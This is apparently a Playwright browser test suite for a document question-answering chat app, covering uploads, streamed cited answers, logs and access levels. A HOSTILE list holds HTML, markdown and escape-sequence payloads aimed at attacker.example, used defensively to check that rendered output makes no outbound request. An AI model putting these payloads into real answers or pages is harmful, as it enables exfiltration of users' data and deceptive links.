"""The page in a real Chromium, before a stand-in for the gateway."""

import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.journey import (
    PHONE,
    Site,
    all_named,
    ask,
    correct,
    open_first_citation,
    photograph,
    sign_in,
    upload,
    visit,
)
from tests.support.fake_gateway import name_number
from tests.support.page import CUSTOMER, PASSWORD, STAFF, Stage
from tests.support.problems import problem_of

pytestmark = pytest.mark.browser

REFUNDS = "Refunds to a card take five to seven working days."
QUESTION = "How long does a refund to a card take?"
ANSWER = "It takes **five to seven** working days [2]."
DONE = ("done", {"answer_id": "a", "tier": "gemini-2.5-pro", "finish_reason": "stop", "citations": [2], "usage": {}})
HOSTILE = [
    "![x](https://attacker.example/p.png?d=1) [click](https://attacker.example/?d=1) <https://attacker.example/>",
    "![x][1]\n\n[1]: https://attacker.example/p",
    "<img src=https://attacker.example/p onerror=alert(1)> <svg><image href='https://attacker.example/p'/></svg>",
    "<div style='background:url(https://attacker.example/p)'>x</div><style>@import url(https://attacker.example/p);</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'><iframe src=https://attacker.example/></iframe>",
    "<form action=https://attacker.example/><button>ok</button></form><details open ontoggle=alert(1)>",
    "$\\includegraphics{https://attacker.example/p}$ ${alert(1)} {{constructor}}",
    "\x1b]8;;https://attacker.example\x07link \u202egpj.exe",
]
MARKDOWN = json.loads((Path(__file__).parent / "markdown_cases.json").read_text())


def passage(n: int, **fields: Any) -> dict[str, Any]:
    told = {"n": n, "document_id": f"d{n}", "title": f"handbook-{n}.pdf", "page": n, "offset": 0, "score": 0.9}
    return told | {"access_level": "INTERNAL", "text": REFUNDS, "fix": False} | fields


@pytest.fixture
def stage(running: Stage) -> Stage:
    gateway = running.new_gateway()
    gateway.events = [
        ("stage", {"name": "retrieving"}),
        ("sources", {"passages": [passage(1, access_level="EXTERNAL"), passage(2)]}),
        *(
            ("token", {"text": f"{word} ", "attempt": 1})
            for word in ["It", "takes", "**five", "to", "seven**", "working", "days", "[2]."]
        ),
    ]
    gateway.tail = [DONE]
    return running


@pytest.fixture
def site(stage: Stage) -> Site:
    return Site(stage.url, STAFF, PASSWORD)


@pytest.fixture
def page(browser: Browser, site: Site) -> Iterator[Page]:
    with visit(browser, site.url) as visited:
        sign_in(visited, site)
        yield visited


def test_a_newcomer_uploads_asks_and_opens_the_source(page: Page, stage: Stage) -> None:
    """Sign in, upload, ask, read a streamed cited answer, open its source."""
    stage.gateway.jobs[f"job-{name_number('refunds.txt')}"] = [
        {"state": "embedding", "progress": {"done": 1, "total": 2}},
        {"state": "done"},
    ]
    upload(page, {"name": "refunds.txt", "mimeType": "text/plain", "buffer": REFUNDS.encode()})
    photograph(page, "documents")
    ask(page, QUESTION)
    assert REFUNDS in open_first_citation(page)
    photograph(page, "chat")
    expect(page.locator("#status [role=status]")).to_have_text("Answered by gemini-2.5-pro.")
    assert stage.gateway.uploads[0]["files"] == {"refunds.txt": REFUNDS.encode()}


def test_an_answer_streams_in_and_stop_reaches_the_gateway(page: Page, stage: Stage) -> None:
    stage.gateway.hold = threading.Event()
    page.get_by_label("Your question").fill(QUESTION)
    page.get_by_label("Your question").press("Enter")
    expect(page.locator("#live .answer")).to_contain_text("working days")
    expect(page.locator("#status")).to_have_text("Answering…")
    expect(page.get_by_role("button", name="Send")).to_be_hidden()
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#status")).to_have_text("Stopped.")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    wait_for_cancellation(page, stage)
    expect(page.locator("#live .answer")).to_contain_text("working days")


def test_a_closed_tab_reaches_the_gateway(browser: Browser, site: Site, stage: Stage) -> None:
    stage.gateway.hold = threading.Event()
    with visit(browser, site.url) as page, visit(browser, site.url) as other:
        sign_in(page, site)
        page.get_by_role("button", name="How long does a refund take?").click()
        expect(page.locator("#live .answer")).to_contain_text("working days")
        page.close()
        wait_for_cancellation(other, stage)


def test_an_error_keeps_the_question_and_retry_asks_again(page: Page, stage: Stage) -> None:
    stage.gateway.tail = [("error", problem_of("unavailable", 503, "No tier answered."))]
    page.get_by_label("Your question").fill(QUESTION)
    page.get_by_role("button", name="Send").click()
    expect(page.locator("#live [role=alert]")).to_contain_text("No tier answered.")
    expect(page.get_by_label("Your question")).to_have_value(QUESTION)
    expect(page.locator(".source")).to_have_count(0)
    photograph(page, "error")
    stage.gateway.tail = [DONE]
    page.get_by_role("button", name="Retry").click()
    expect(page.locator("#live .outcome")).to_be_visible()
    expect(page.get_by_role("button", name="Retry")).to_be_hidden()


def test_a_conversation_survives_a_reload_and_opens_the_sources_of_earlier_turns(page: Page, stage: Stage) -> None:
    ask(page, QUESTION)
    stage.gateway.events = [
        ("sources", {"passages": [passage(1, text="UPI takes two days.")]}),
        ("token", {"text": "Two [1]."}),
    ]
    ask(page, "And for UPI?")
    page.reload()
    expect(page.locator("#past .turn")).to_have_count(2)
    page.locator("#past a.cite").first.click()
    expect(page.locator(".source.open")).to_contain_text(REFUNDS)
    expect(page.get_by_text("UPI takes two days.")).to_be_hidden()
    page.get_by_role("button", name="New conversation").click()
    expect(page.get_by_text("Ask about your documents")).to_be_visible()
    page.get_by_role("button", name="Past conversations").click()
    page.locator("#summaries button").first.click()
    expect(page.locator("#past .turn")).to_have_count(2)


def test_an_answer_is_corrected_with_the_question_filled_in(page: Page, stage: Stage) -> None:
    ask(page, QUESTION)
    correct(page, "Five days.", instead_of="five to seven")
    expect(page.get_by_label("Question", exact=True)).to_have_value(QUESTION)
    assert stage.gateway.fixes == [{"question": QUESTION, "answer": "Five days.", "access_level": "INTERNAL"}]


def test_a_customer_sees_the_chat_alone(browser: Browser, stage: Stage) -> None:
    site = Site(stage.url, CUSTOMER, PASSWORD)
    with visit(browser, site.url) as page:
        sign_in(page, site)
        expect(page.locator("#header .badge")).to_have_text("EXTERNAL")
        ask(page, QUESTION)
        expect(page.get_by_role("tab")).to_have_count(1)
        expect(page.get_by_role("button", name="Correct this answer")).to_have_count(0)


def test_a_file_that_failed_tells_why(page: Page, stage: Stage) -> None:
    stage.gateway.jobs[f"job-{name_number('bad.pdf')}"] = [{"state": "failed", "error": "The PDF is encrypted."}]
    page.get_by_role("tab", name="Documents").click()
    page.get_by_label("Files").set_input_files({"name": "bad.pdf", "mimeType": "application/pdf", "buffer": b"%PDF"})
    page.get_by_label("Web addresses").fill("https://example.com/a\nhttps://example.com/b")
    page.get_by_role("button", name="Add documents").click()
    expect(page.locator(".job-failed")).to_contain_text("The PDF is encrypted.")
    expect(page.locator(".job-done")).to_have_count(2)


def test_a_document_is_deleted_after_a_question(page: Page, stage: Stage) -> None:
    stage.gateway.documents = [{"id": "d1", "title": "old.pdf", "access_level": "INTERNAL", "state": "done"}]
    page.get_by_role("tab", name="Documents").click()
    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_role("button", name="Delete old.pdf").click()
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete old.pdf").click()
    expect(page.get_by_text("There are no documents yet.")).to_be_visible()
    assert stage.gateway.documents == []


def test_logs_are_searched_narrowed_by_the_histogram_and_opened(page: Page, stage: Stage) -> None:
    before = (datetime.now(UTC) - timedelta(minutes=10)).isoformat()
    hit = {"time": before, "level": "ERROR", "service": "gateway", "event": "chat.failed", "request_id": "r-77"}
    stage.gateway.log_page = {"total": 1, "took_ms": 3, "hits": [hit], "warnings": []}
    page.get_by_role("tab", name="Logs").click()
    page.get_by_label("Lucene query").fill("level:ERROR")
    page.get_by_role("button", name="Search").click()
    page.locator(".line summary").click()
    expect(page.locator(".line dl")).to_contain_text("r-77")
    photograph(page, "logs")
    page.locator(".bars button:enabled").click()
    expect(page.get_by_label("From (UTC)")).not_to_have_value("")
    expect(page.locator("#log-summary")).to_contain_text("1 lines")
    poll(page, lambda: len(stage.gateway.searches) == 2)
    width = [datetime.fromisoformat(stage.gateway.searches[1][name]) for name in ("start", "end")]
    assert (width[1] - width[0]).total_seconds() == 60


def test_a_session_that_ended_leads_to_the_sign_in(page: Page, stage: Stage) -> None:
    stage.gateway.revoked.add(f"token-{STAFF}")
    page.get_by_label("Your question").fill(QUESTION)
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_text("Your session has ended. Sign in again.")).to_be_visible()


def test_on_a_phone_a_citation_opens_a_sheet(browser: Browser, site: Site) -> None:
    with visit(browser, site.url, PHONE) as page:
        sign_in(page, site)
        ask(page, QUESTION)
        expect(page.locator("#sources")).to_be_hidden()
        open_first_citation(page)
        photograph(page, "phone")
        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE[0]
        page.get_by_role("button", name="Close").click()
        expect(page.locator("#sources")).to_be_hidden()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_asks_nobody_for_anything(page: Page, stage: Stage, text: str) -> None:
    """case 36: in an answer, a title, a passage, a log line: `visit` checks that no request left."""
    stage.gateway.events = [("sources", {"passages": [passage(1, title=text, text=text)]}), ("token", {"text": text})]
    stage.gateway.tail = [DONE]
    stage.gateway.documents = [{"id": "d1", "title": text, "access_level": "INTERNAL", "state": "done"}]
    hit = {"time": datetime.now(UTC).isoformat(), "event": text, "note": text}
    stage.gateway.log_page = {"total": 1, "took_ms": 1, "hits": [hit], "warnings": [text]}
    ask(page, "What is it?")
    page.get_by_role("tab", name="Documents").click()
    expect(page.locator("table.documents")).to_be_visible()
    page.get_by_role("tab", name="Logs").click()
    page.get_by_role("button", name="Search").click()
    expect(page.locator(".line")).to_have_count(1)
    is_inert(page)


def test_no_markdown_of_any_form_asks_anybody_for_anything(page: Page, stage: Stage) -> None:
    """case 36: each as an answer by itself, all as titles, passages, documents, log lines and warnings."""
    texts = [case["text"] for case in MARKDOWN]
    passages = [passage(n, title=text, text=text) for n, text in enumerate(texts, start=1)]
    stage.gateway.tail = [DONE]
    for number, text in enumerate(texts):
        stage.gateway.events = [("sources", {"passages": passages if number == 0 else []}), ("token", {"text": text})]
        ask(page, f"Question {number}")
        if number == 0:
            expect(page.locator(".source")).to_have_count(len(texts))
        is_inert(page)
    stage.gateway.documents = [
        {"id": f"d{n}", "title": text, "access_level": "INTERNAL", "state": "done"} for n, text in enumerate(texts)
    ]
    page.get_by_role("tab", name="Documents").click()
    expect(page.locator("table.documents tbody tr")).to_have_count(len(texts))
    hits = [{"time": datetime.now(UTC).isoformat(), "event": text, "note": text} for text in texts]
    stage.gateway.log_page = {"total": len(hits), "took_ms": 1, "hits": hits, "warnings": texts}
    page.get_by_role("tab", name="Logs").click()
    page.get_by_role("button", name="Search").click()
    expect(page.locator(".line")).to_have_count(len(texts))
    is_inert(page)


def is_inert(page: Page) -> None:
    drawn = page.locator("#past, #live, #sources, #listing, #log-summary, #log-lines")
    active = "img, svg, iframe, style, form, meta, link, video, [onerror], [ontoggle], [style*=url]"
    assert drawn.locator(active).count() == 0
    assert drawn.locator("a:not([href^='#s'])").count() == 0
    assert "\u202e" not in page.locator("body").inner_text()


def test_every_control_has_a_name(page: Page) -> None:
    """As a screen reader is told it, on every tab."""
    ask(page, QUESTION)
    for tab in ("Chat", "Documents", "Logs", "Access"):
        page.get_by_role("tab", name=tab).click()
        all_named(page)


def wait_for_cancellation(page: Page, stage: Stage) -> None:
    poll(page, lambda: stage.gateway.cancelled == ["request-1"])
    assert stage.gateway.hold
    stage.gateway.hold.set()


def poll(page: Page, condition: Any) -> None:
    """Wait on a condition outside the page while the page goes on."""
    for _ in range(200):
        if condition():
            return
        page.wait_for_timeout(50)
    raise AssertionError("the condition did not come true within 10 s")
